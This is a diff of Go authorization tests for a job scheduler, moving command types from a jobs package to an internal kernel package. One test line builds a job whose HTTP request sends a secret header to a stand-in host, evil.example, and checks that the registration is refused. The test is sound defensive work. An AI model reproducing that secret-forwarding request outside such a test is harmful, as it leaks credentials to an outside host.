@@ -14,6 +14,7 @@ import (
 
 	"github.com/carillon-scheduler/carillon/bus"
 	"github.com/carillon-scheduler/carillon/bus/membus"
+	"github.com/carillon-scheduler/carillon/internal/kernel"
 	"github.com/carillon-scheduler/carillon/jobs"
 	"github.com/carillon-scheduler/carillon/metastore"
 	"github.com/carillon-scheduler/carillon/metastore/memstore"
@@ -27,7 +28,7 @@ var (
 
 // A command or a question that is added to the words gets its row here, or this fails.
 func TestEveryVerbHasItsRow(t *testing.T) {
-	for v := jobs.Verb(1); v.String() != "?"; v++ {
+	for v := kernel.Verb(1); v.String() != "?"; v++ {
 		if _, ok := mayCommand[v]; !ok {
 			t.Errorf("command %s has no row: who may send it?", v)
 		}
@@ -43,42 +44,42 @@ func TestEveryVerbHasItsRow(t *testing.T) {
 func TestAuthority(t *testing.T) {
 	id := jobs.ID{1}
 	for _, c := range []struct {
-		command jobs.Command
+		command kernel.Command
 		may     string
 	}{
-		{jobs.Register{Worker: "billing-5f"}, "worker"},
-		{jobs.Edit{}, ""},
-		{jobs.Pause{}, ""},
-		{jobs.Resume{}, ""},
-		{jobs.Create{}, "worker client"},
-		{jobs.Fire{}, ""},
-		{jobs.Release{}, ""},
-		{jobs.Claim{ID: id, Worker: "billing-5f"}, "worker"},
-		{jobs.Finish{ID: id, Worker: "billing-5f"}, "worker"},
-		{jobs.Returned{ID: id, Worker: "billing-5f"}, "worker"},
-		{jobs.Checkpoint{ID: id, Worker: "billing-5f"}, "worker"},
-		{jobs.Expire{}, ""},
-		{jobs.Cancel{}, "client"},
-		{jobs.Configure{}, ""},
-		{jobs.Lead{}, ""},
-		{jobs.Refresh{}, ""},
-		{jobs.Forget{}, ""},
-		{jobs.Hand{}, ""},
-		{jobs.Delete{}, ""},
-		{jobs.Grant{}, ""},
-		{jobs.Revoke{}, ""},
-		{jobs.SignIn{}, ""},
-		{jobs.SignOut{}, ""},
-		{jobs.Trim{}, ""},
-		{jobs.Invite{}, ""},
-		{jobs.Join{}, ""},
-		{jobs.Members{}, ""},
-		{jobs.Expect{ID: id, Worker: "billing-5f"}, "worker"},
-		{jobs.Hear{}, ""},
-		{jobs.Notify{Run: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Register{Worker: "billing-5f"}, "worker"},
+		{kernel.Edit{}, ""},
+		{kernel.Pause{}, ""},
+		{kernel.Resume{}, ""},
+		{kernel.Create{}, "worker client"},
+		{kernel.Fire{}, ""},
+		{kernel.Release{}, ""},
+		{kernel.Claim{ID: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Finish{ID: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Returned{ID: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Checkpoint{ID: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Expire{}, ""},
+		{kernel.Cancel{}, "client"},
+		{kernel.Configure{}, ""},
+		{kernel.Lead{}, ""},
+		{kernel.Refresh{}, ""},
+		{kernel.Forget{}, ""},
+		{kernel.Hand{}, ""},
+		{kernel.Delete{}, ""},
+		{kernel.Grant{}, ""},
+		{kernel.Revoke{}, ""},
+		{kernel.SignIn{}, ""},
+		{kernel.SignOut{}, ""},
+		{kernel.Trim{}, ""},
+		{kernel.Invite{}, ""},
+		{kernel.Join{}, ""},
+		{kernel.Members{}, ""},
+		{kernel.Expect{ID: id, Worker: "billing-5f"}, "worker"},
+		{kernel.Hear{}, ""},
+		{kernel.Notify{Run: id, Worker: "billing-5f"}, "worker"},
 	} {
 		for _, from := range []bus.Principal{node, worker, client, {Tenant: "default", Role: "stranger", Name: "x"}, {}} {
-			e := jobs.Envelope{Tenant: "default", Actor: "person:ann", Command: c.command}
+			e := kernel.Envelope{Tenant: "default", Actor: "person:ann", Command: c.command}
 			err := authorize(from, from.Actor(), &e)
 			may := from.Role == bus.Node || strings.Contains(c.may, string(from.Role)) && from.Role != ""
 			if may != (err == nil) || !may && !errors.Is(err, jobs.Forbidden) {
@@ -132,13 +133,13 @@ func newHouse(t *testing.T, c Config) *house {
 func (h *house) as(p bus.Principal) metastore.Store { return Patient(New(h.hub.As(p), p)) }
 
 // send applies one command through a store and answers with its result.
-func (h *house) send(t *testing.T, s metastore.Store, c jobs.Command) metastore.Result {
+func (h *house) send(t *testing.T, s metastore.Store, c kernel.Command) metastore.Result {
 	t.Helper()
 	h.n++
-	return s.Apply(t.Context(), []jobs.Envelope{{ID: jobs.DerivedID(fmt.Sprint(h.n)), Command: c}})[0]
+	return s.Apply(t.Context(), []kernel.Envelope{{ID: kernel.DerivedID(fmt.Sprint(h.n)), Command: c}})[0]
 }
 
-func (h *house) must(t *testing.T, s metastore.Store, c jobs.Command) jobs.Effect {
+func (h *house) must(t *testing.T, s metastore.Store, c kernel.Command) kernel.Effect {
 	t.Helper()
 	r := h.send(t, s, c)
 	if r.Err != nil {
@@ -147,15 +148,15 @@ func (h *house) must(t *testing.T, s metastore.Store, c jobs.Command) jobs.Effec
 	return r.Effect
 }
 
-func (h *house) refused(t *testing.T, s metastore.Store, c jobs.Command, code jobs.Code) {
+func (h *house) refused(t *testing.T, s metastore.Store, c kernel.Command, code jobs.Code) {
 	t.Helper()
 	if r := h.send(t, s, c); !errors.Is(r.Err, code) {
 		t.Errorf("%s %+v: %v, want %s", c.Verb(), c, r.Err, code)
 	}
 }
 
-func register(app, worker string, key jobs.Key) jobs.Register {
-	return jobs.Register{App: app, Worker: worker, Start: true, Job: jobs.Declaration{Key: key, Kind: jobs.Triggered}}
+func register(app, worker string, key jobs.Key) kernel.Register {
+	return kernel.Register{App: app, Worker: worker, Start: true, Job: kernel.Declaration{Key: key, Kind: kernel.Triggered}}
 }
 
 // A worker that tells lies is refused, and what it may do is done in its own name.
@@ -167,19 +168,19 @@ func TestWorkerThatLies(t *testing.T) {
 	steal.Job.Code.HTTP = new(json.RawMessage(`{"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]}`))
 	h.refused(t, w, steal, jobs.BadInput)
 	// Only the worker that has a run starts notifications about it, and nobody any other run of a system job.
-	notify := jobs.NotifyKey("billing")
+	notify := kernel.NotifyKey("billing")
 	h.must(t, w, register("billing", "billing-1", notify))
-	h.refused(t, w, register("billing", "billing-1", jobs.NotifyKey("shipping")), jobs.BadInput)
+	h.refused(t, w, register("billing", "billing-1", kernel.NotifyKey("shipping")), jobs.BadInput)
 	h.refused(t, w, register("billing", "billing-1", "carillon.evil"), jobs.BadInput)
-	for _, origin := range []jobs.Origin{"", jobs.FromCode, jobs.FromParent, jobs.FromRetry} {
+	for _, origin := range []kernel.Origin{"", kernel.FromCode, kernel.FromParent, kernel.FromRetry} {
 		for _, s := range []metastore.Store{w, c} {
-			h.refused(t, s, jobs.Create{ID: jobs.ID{6}, Key: notify, Origin: origin}, jobs.Forbidden)
+			h.refused(t, s, kernel.Create{ID: jobs.ID{6}, Key: notify, Origin: origin}, jobs.Forbidden)
 		}
 	}
-	about := jobs.Notify{Run: jobs.ID{7}, App: "billing", Worker: "billing-1", Attempt: 1, N: 1, Body: []byte(`{}`)}
+	about := kernel.Notify{Run: jobs.ID{7}, App: "billing", Worker: "billing-1", Attempt: 1, N: 1, Body: []byte(`{}`)}
 	h.refused(t, w, about, jobs.NotFound)
 	run := jobs.ID{7}
-	r := h.must(t, c, jobs.Create{ID: run, Key: "charge", Args: []byte(`{"a":1}`)}).Run()
+	r := h.must(t, c, kernel.Create{ID: run, Key: "charge", Args: []byte(`{"a":1}`)}).Run()
 	if r.ID != run || r.State != jobs.Enqueued || r.Key != "charge" || r.Args != nil {
 		t.Errorf("created %+v", r)
 	}
@@ -187,37 +188,37 @@ func TestWorkerThatLies(t *testing.T) {
 		t.Errorf("kept %+v, %v", kept, err)
 	}
 	// The ID of what will follow from something else is nobody's to take before.
-	for _, id := range []jobs.ID{jobs.ChildID(&jobs.Run{Tenant: "default", ID: run}, "receipt"), jobs.DueID("default", r.Job, time.Now(), 0, 0)} {
+	for _, id := range []jobs.ID{kernel.ChildID(&kernel.Run{Tenant: "default", ID: run}, "receipt"), kernel.DueID("default", r.Job, time.Now(), 0, 0)} {
 		for _, s := range []metastore.Store{w, c} {
-			h.refused(t, s, jobs.Create{ID: id, Key: "charge"}, jobs.Forbidden)
+			h.refused(t, s, kernel.Create{ID: id, Key: "charge"}, jobs.Forbidden)
 		}
-		h.must(t, n, jobs.Create{ID: id, Key: "charge"})
+		h.must(t, n, kernel.Create{ID: id, Key: "charge"})
 	}
-	claim := jobs.Claim{ID: run, Worker: "billing-1", Attempt: 1}
-	h.refused(t, w, jobs.Claim{ID: run, Worker: "shipping-1", Attempt: 1}, jobs.Forbidden)
-	h.refused(t, w, jobs.Claim{ID: run, Worker: "billing-1", Attempt: 2}, jobs.Stale)
-	h.refused(t, w, jobs.Claim{ID: jobs.ID{9}, Worker: "billing-1", Attempt: 1}, jobs.NotFound)
+	claim := kernel.Claim{ID: run, Worker: "billing-1", Attempt: 1}
+	h.refused(t, w, kernel.Claim{ID: run, Worker: "shipping-1", Attempt: 1}, jobs.Forbidden)
+	h.refused(t, w, kernel.Claim{ID: run, Worker: "billing-1", Attempt: 2}, jobs.Stale)
+	h.refused(t, w, kernel.Claim{ID: jobs.ID{9}, Worker: "billing-1", Attempt: 1}, jobs.NotFound)
 	if got := h.must(t, w, claim).Run(); string(got.Args) != `{"a":1}` {
 		t.Errorf("a claim is answered with arguments %s", got.Args)
 	}
-	for change, code := range map[*jobs.Notify]jobs.Code{{Worker: "billing-1", Attempt: 2}: jobs.Stale, {Worker: "billing-2", Attempt: 1}: jobs.Forbidden, {Worker: "shipping-1", Attempt: 1}: jobs.Forbidden} {
+	for change, code := range map[*kernel.Notify]jobs.Code{{Worker: "billing-1", Attempt: 2}: jobs.Stale, {Worker: "billing-2", Attempt: 1}: jobs.Forbidden, {Worker: "shipping-1", Attempt: 1}: jobs.Forbidden} {
 		other := about
 		other.Worker, other.Attempt = change.Worker, change.Attempt
 		h.refused(t, w, other, code)
 	}
 	h.refused(t, c, about, jobs.Forbidden)
 	h.must(t, w, about)
-	finish := jobs.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: jobs.OutcomeSuccess, Result: []byte(`"ok"`)}
-	with := func(change func(*jobs.Finish)) jobs.Finish { f := finish; change(&f); return f }
+	finish := kernel.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: kernel.OutcomeSuccess, Result: []byte(`"ok"`)}
+	with := func(change func(*kernel.Finish)) kernel.Finish { f := finish; change(&f); return f }
 	// Attempts that are not the current one, workers that do not have it, results that are none.
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Attempt = 0 }), jobs.BadInput)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Attempt = 2 }), jobs.Stale)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Worker = "billing-2" }), jobs.Forbidden)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Worker = "shipping-1" }), jobs.Forbidden)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Outcome = 9 }), jobs.BadInput)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Result = []byte("none") }), jobs.BadInput)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Result = make([]byte, jobs.MaxResult+1) }), jobs.BadInput)
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Delay = -time.Second }), jobs.BadInput)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Attempt = 0 }), jobs.BadInput)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Attempt = 2 }), jobs.Stale)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Worker = "billing-2" }), jobs.Forbidden)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Worker = "shipping-1" }), jobs.Forbidden)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Outcome = 9 }), jobs.BadInput)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Result = []byte("none") }), jobs.BadInput)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Result = make([]byte, kernel.MaxResult+1) }), jobs.BadInput)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Delay = -time.Second }), jobs.BadInput)
 	h.refused(t, c, finish, jobs.Forbidden)
 	// Once, twice: one result.
 	done := h.must(t, w, finish).Run()
@@ -228,17 +229,17 @@ func TestWorkerThatLies(t *testing.T) {
 	if len(done.Args)+len(done.Result) > 0 {
 		t.Error("the answer to a finish repeats what was sent")
 	}
-	h.refused(t, w, with(func(f *jobs.Finish) { f.Outcome, f.Result = jobs.OutcomeError, nil }), jobs.Conflict)
+	h.refused(t, w, with(func(f *kernel.Finish) { f.Outcome, f.Result = kernel.OutcomeError, nil }), jobs.Conflict)
 	if kept, err := n.Run(t.Context(), "default", run); err != nil || string(kept.Result) != `"ok"` {
 		t.Errorf("kept %v, %v", kept, err)
 	}
 	// After a cancel, the attempt is over.
 	other := jobs.ID{8}
-	h.must(t, c, jobs.Create{ID: other, Key: "charge"})
-	h.must(t, w, jobs.Claim{ID: other, Worker: "billing-1", Attempt: 1})
-	h.must(t, c, jobs.Cancel{ID: other})
-	h.refused(t, w, with(func(f *jobs.Finish) { f.ID = other }), jobs.Conflict)
-	h.must(t, w, jobs.Returned{ID: other, Worker: "billing-1", Attempt: 1})
+	h.must(t, c, kernel.Create{ID: other, Key: "charge"})
+	h.must(t, w, kernel.Claim{ID: other, Worker: "billing-1", Attempt: 1})
+	h.must(t, c, kernel.Cancel{ID: other})
+	h.refused(t, w, with(func(f *kernel.Finish) { f.ID = other }), jobs.Conflict)
+	h.must(t, w, kernel.Returned{ID: other, Worker: "billing-1", Attempt: 1})
 }
 
 // Tenants do not see each other, and names in envelopes are not believed.
@@ -248,8 +249,8 @@ func TestTenantsAndActors(t *testing.T) {
 	h.must(t, w, register("billing", "billing", "charge"))
 	foreign := h.as(bus.Principal{Tenant: "other", Role: bus.Worker, Name: "billing", App: "billing"})
 	h.must(t, foreign, register("billing", "billing", "charge")) // its own job of the same key
-	envelope := func(tenant jobs.Tenant, actor string) []jobs.Envelope {
-		return []jobs.Envelope{{ID: jobs.ID{1}, Tenant: tenant, Actor: actor, Command: jobs.Create{ID: jobs.NewID(time.Now()), Key: "charge"}}}
+	envelope := func(tenant jobs.Tenant, actor string) []kernel.Envelope {
+		return []kernel.Envelope{{ID: jobs.ID{1}, Tenant: tenant, Actor: actor, Command: kernel.Create{ID: jobs.NewID(time.Now()), Key: "charge"}}}
 	}
 	if r := foreign.Apply(t.Context(), envelope("default", "")); !errors.Is(r[0].Err, jobs.Forbidden) {
 		t.Errorf("a foreign tenant: %v", r[0].Err)
@@ -264,7 +265,7 @@ func TestTenantsAndActors(t *testing.T) {
 	if r := h.as(node).Apply(t.Context(), envelope("other", "person:ann")); r[0].Err != nil || r[0].Run().Actor != "person:ann" || r[0].Run().Tenant != "other" {
 		t.Errorf("a node names a person: %+v, %v", r[0].Run(), r[0].Err)
 	}
-	h.refused(t, h.as(client), jobs.Create{ID: jobs.ID{5}, Key: "charge", Origin: jobs.FromPerson}, jobs.Forbidden)
+	h.refused(t, h.as(client), kernel.Create{ID: jobs.ID{5}, Key: "charge", Origin: kernel.FromPerson}, jobs.Forbidden)
 	if _, err := foreign.Definition(t.Context(), "default", "charge"); !errors.Is(err, jobs.Forbidden) {
 		t.Errorf("reading a foreign job: %v", err)
 	}
@@ -287,36 +288,36 @@ func TestOriginsAreTheConnections(t *testing.T) {
 	h.must(t, shipping, register("shipping", "shipping", "ship"))
 	h.must(t, n, register("billing", "billing", "charge"))
 	parent := jobs.ID{9}
-	h.must(t, c, jobs.Create{ID: parent, Key: "charge"})
+	h.must(t, c, kernel.Create{ID: parent, Key: "charge"})
 	for i, x := range []struct {
 		as     metastore.Store
 		who    string
 		key    jobs.Key
-		says   jobs.Origin
+		says   kernel.Origin
 		parent jobs.ID
-		want   jobs.Origin // "" = it is refused
+		want   kernel.Origin // "" = it is refused
 	}{
-		{c, "client:shop", "charge", "", jobs.ID{}, jobs.FromCode},
-		{c, "client:shop", "charge", jobs.FromCode, jobs.ID{}, jobs.FromCode},
-		{c, "client:shop", "charge", jobs.FromParent, jobs.ID{}, jobs.FromCode},
-		{c, "client:shop", "charge", jobs.FromParent, parent, jobs.FromParent},
-		{c, "client:shop", "charge", jobs.FromCode, parent, jobs.FromParent},
-		{c, "client:shop", "charge", jobs.FromParent, jobs.ID{77}, ""},
-		{acme, "client:shop", "charge", jobs.FromParent, parent, ""},
-		{w, "worker:billing", "charge", jobs.FromCode, jobs.ID{}, jobs.FromCode},
-		{w, "worker:billing", "charge", jobs.FromParent, parent, jobs.FromParent},
-		{w, "worker:billing", "charge", jobs.FromParent, jobs.ID{77}, ""},
-		{shipping, "worker:shipping", "ship", jobs.FromParent, parent, ""}, // another app's run
-		{c, "client:shop", "charge", jobs.FromPerson, jobs.ID{}, ""},
-		{c, "client:shop", "charge", jobs.FromAPI, jobs.ID{}, ""},
-		{c, "client:shop", "charge", jobs.FromRetry, jobs.ID{}, ""},
-		{c, "client:shop", "charge", jobs.FromRetry, parent, ""},
-		{w, "worker:billing", "charge", jobs.FromRetry, parent, ""},
-		{n, "person:ann", "charge", jobs.FromPerson, jobs.ID{}, jobs.FromPerson}, // a node asks for people
-		{n, "person:ann", "charge", jobs.FromRetry, parent, jobs.FromRetry},
+		{c, "client:shop", "charge", "", jobs.ID{}, kernel.FromCode},
+		{c, "client:shop", "charge", kernel.FromCode, jobs.ID{}, kernel.FromCode},
+		{c, "client:shop", "charge", kernel.FromParent, jobs.ID{}, kernel.FromCode},
+		{c, "client:shop", "charge", kernel.FromParent, parent, kernel.FromParent},
+		{c, "client:shop", "charge", kernel.FromCode, parent, kernel.FromParent},
+		{c, "client:shop", "charge", kernel.FromParent, jobs.ID{77}, ""},
+		{acme, "client:shop", "charge", kernel.FromParent, parent, ""},
+		{w, "worker:billing", "charge", kernel.FromCode, jobs.ID{}, kernel.FromCode},
+		{w, "worker:billing", "charge", kernel.FromParent, parent, kernel.FromParent},
+		{w, "worker:billing", "charge", kernel.FromParent, jobs.ID{77}, ""},
+		{shipping, "worker:shipping", "ship", kernel.FromParent, parent, ""}, // another app's run
+		{c, "client:shop", "charge", kernel.FromPerson, jobs.ID{}, ""},
+		{c, "client:shop", "charge", kernel.FromAPI, jobs.ID{}, ""},
+		{c, "client:shop", "charge", kernel.FromRetry, jobs.ID{}, ""},
+		{c, "client:shop", "charge", kernel.FromRetry, parent, ""},
+		{w, "worker:billing", "charge", kernel.FromRetry, parent, ""},
+		{n, "person:ann", "charge", kernel.FromPerson, jobs.ID{}, kernel.FromPerson}, // a node asks for people
+		{n, "person:ann", "charge", kernel.FromRetry, parent, kernel.FromRetry},
 	} {
-		k := jobs.Create{ID: jobs.ID{1, byte(i)}, Key: x.key, Origin: x.says, Parent: x.parent}
-		r := x.as.Apply(t.Context(), []jobs.Envelope{{ID: jobs.ID{2, byte(i)}, Actor: "person:ann", Reason: "x", Command: k}})[0]
+		k := kernel.Create{ID: jobs.ID{1, byte(i)}, Key: x.key, Origin: x.says, Parent: x.parent}
+		r := x.as.Apply(t.Context(), []kernel.Envelope{{ID: jobs.ID{2, byte(i)}, Actor: "person:ann", Reason: "x", Command: k}})[0]
 		if x.want == "" {
 			if !errors.Is(r.Err, jobs.Forbidden) {
 				t.Errorf("%s says %q, parent %s: %v", x.who, x.says, x.parent, r.Err)
@@ -336,11 +337,11 @@ func TestAParentIsLookedUpOnce(t *testing.T) {
 	if err := Serve(t.Context(), hub.As(node), counted, Config{}); err != nil {
 		t.Fatal(err)
 	}
-	allDone(t, New(hub.As(node), node).Apply(t.Context(), append([]jobs.Envelope{{ID: jobs.ID{1}, Command: register("billing", "billing", "charge")}}, creates(0, 1, "")...)))
+	allDone(t, New(hub.As(node), node).Apply(t.Context(), append([]kernel.Envelope{{ID: jobs.ID{1}, Command: register("billing", "billing", "charge")}}, creates(0, 1, "")...)))
 	batch := creates(1, 100, "")
 	for i := range batch {
-		k := batch[i].Command.(jobs.Create)
-		k.Parent = jobs.DerivedID("run0")
+		k := batch[i].Command.(kernel.Create)
+		k.Parent = kernel.DerivedID("run0")
 		k.ID = jobs.ID{1, byte(i)}
 		batch[i].Command = k
 	}
@@ -355,7 +356,7 @@ type lookups struct {
 	runs atomic.Int64
 }
 
-func (l *lookups) Run(ctx context.Context, tenant jobs.Tenant, id jobs.ID) (*jobs.Run, error) {
+func (l *lookups) Run(ctx context.Context, tenant jobs.Tenant, id jobs.ID) (*kernel.Run, error) {
 	l.runs.Add(1)
 	return l.Store.Run(ctx, tenant, id)
 }
@@ -372,22 +373,22 @@ func TestWorkersStayInTheirApp(t *testing.T) {
 	theirs.Job.Version = 99
 	h.refused(t, shipping, theirs, jobs.Forbidden)
 	run := jobs.ID{1}
-	h.must(t, h.as(client), jobs.Create{ID: run, Key: "charge"})
-	h.must(t, billing, jobs.Create{ID: jobs.ID{2}, Key: "charge"})
-	h.refused(t, shipping, jobs.Create{ID: jobs.ID{3}, Key: "charge"}, jobs.Forbidden)
-	h.refused(t, shipping, jobs.Claim{ID: run, Worker: "shipping", Attempt: 1}, jobs.Forbidden)
+	h.must(t, h.as(client), kernel.Create{ID: run, Key: "charge"})
+	h.must(t, billing, kernel.Create{ID: jobs.ID{2}, Key: "charge"})
+	h.refused(t, shipping, kernel.Create{ID: jobs.ID{3}, Key: "charge"}, jobs.Forbidden)
+	h.refused(t, shipping, kernel.Claim{ID: run, Worker: "shipping", Attempt: 1}, jobs.Forbidden)
 	if _, err := shipping.Run(t.Context(), "", run); !errors.Is(err, jobs.Forbidden) {
 		t.Errorf("reading a run of another app: %v", err)
 	}
 	if _, err := shipping.Definition(t.Context(), "", "charge"); !errors.Is(err, jobs.Forbidden) {
 		t.Errorf("reading a job of another app: %v", err)
 	}
-	h.must(t, billing, jobs.Claim{ID: run, Worker: "billing-1", Attempt: 1})
-	h.must(t, billing, jobs.Checkpoint{ID: run, Worker: "billing-1", Attempt: 1})
-	h.must(t, billing, jobs.Expect{ID: run, Worker: "billing-1", Attempt: 1, Key: make([]byte, jobs.FeedbackKey)})
-	h.refused(t, billing, jobs.Hear{ID: run, Attempt: 1}, jobs.Forbidden)
+	h.must(t, billing, kernel.Claim{ID: run, Worker: "billing-1", Attempt: 1})
+	h.must(t, billing, kernel.Checkpoint{ID: run, Worker: "billing-1", Attempt: 1})
+	h.must(t, billing, kernel.Expect{ID: run, Worker: "billing-1", Attempt: 1, Key: make([]byte, kernel.FeedbackKey)})
+	h.refused(t, billing, kernel.Hear{ID: run, Attempt: 1}, jobs.Forbidden)
 	h.sees(t, run)
-	h.must(t, billing, jobs.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: jobs.OutcomeSuccess})
+	h.must(t, billing, kernel.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: kernel.OutcomeSuccess})
 }
 
 // sees fails if a client is told by which key words about a run are known, or a worker is not.
@@ -419,12 +420,12 @@ func TestANameThatGoesToAnotherApp(t *testing.T) {
 	h1 := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "h1", App: "billing"})
 	h.must(t, h1, register("billing", "h1", "charge"))
 	run := jobs.ID{1}
-	h.must(t, h.as(client), jobs.Create{ID: run, Key: "charge"})
-	h.must(t, h1, jobs.Claim{ID: run, Worker: "h1-x", Attempt: 1})
+	h.must(t, h.as(client), kernel.Create{ID: run, Key: "charge"})
+	h.must(t, h1, kernel.Claim{ID: run, Worker: "h1-x", Attempt: 1})
 	h1 = h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "h1", App: "shipping"})
-	for _, c := range []jobs.Command{
-		jobs.Finish{ID: run, Worker: "h1-x", Attempt: 1, Outcome: jobs.OutcomeSuccess},
-		jobs.Checkpoint{ID: run, Worker: "h1-x", Attempt: 1}, jobs.Returned{ID: run, Worker: "h1-x", Attempt: 1},
+	for _, c := range []kernel.Command{
+		kernel.Finish{ID: run, Worker: "h1-x", Attempt: 1, Outcome: kernel.OutcomeSuccess},
+		kernel.Checkpoint{ID: run, Worker: "h1-x", Attempt: 1}, kernel.Returned{ID: run, Worker: "h1-x", Attempt: 1},
 	} {
 		h.refused(t, h1, c, jobs.Forbidden)
 	}
@@ -448,10 +449,10 @@ func TestAnswersHoldOwnRunsOnly(t *testing.T) {
 	r.Job.Code.MaxConcurrency = new(1)
 	h.must(t, w, r)
 	for i := range byte(2) {
-		h.must(t, c, jobs.Create{ID: jobs.ID{1 + i}, Key: "charge", Args: []byte(`{"secret":1}`)})
+		h.must(t, c, kernel.Create{ID: jobs.ID{1 + i}, Key: "charge", Args: []byte(`{"secret":1}`)})
 	}
-	h.must(t, w, jobs.Claim{ID: jobs.ID{1}, Worker: "billing", Attempt: 1})
-	e := h.must(t, w, jobs.Finish{ID: jobs.ID{1}, Worker: "billing", Attempt: 1, Outcome: jobs.OutcomeSuccess})
+	h.must(t, w, kernel.Claim{ID: jobs.ID{1}, Worker: "billing", Attempt: 1})
+	e := h.must(t, w, kernel.Finish{ID: jobs.ID{1}, Worker: "billing", Attempt: 1, Outcome: kernel.OutcomeSuccess})
 	if len(e.Runs) != 0 || e.Summary == nil || e.Run().ID != (jobs.ID{1}) || e.Run().State != jobs.Succeeded {
 		t.Errorf("%d runs in the answer, %+v", len(e.Runs), e.Summary)
 	}
@@ -466,7 +467,7 @@ func TestFloodsOfWhatIsRefused(t *testing.T) {
 	h := newHouse(t, Config{Logger: slog.New(slog.NewTextHandler(&said, nil))})
 	begun := time.Now()
 	for range 200 {
-		h.refused(t, h.as(worker), jobs.Delete{Key: "charge"}, jobs.Forbidden)
+		h.refused(t, h.as(worker), kernel.Delete{Key: "charge"}, jobs.Forbidden)
 		if _, err := h.as(worker).Global(t.Context(), ""); !errors.Is(err, jobs.Forbidden) {
 			t.Fatal(err)
 		}
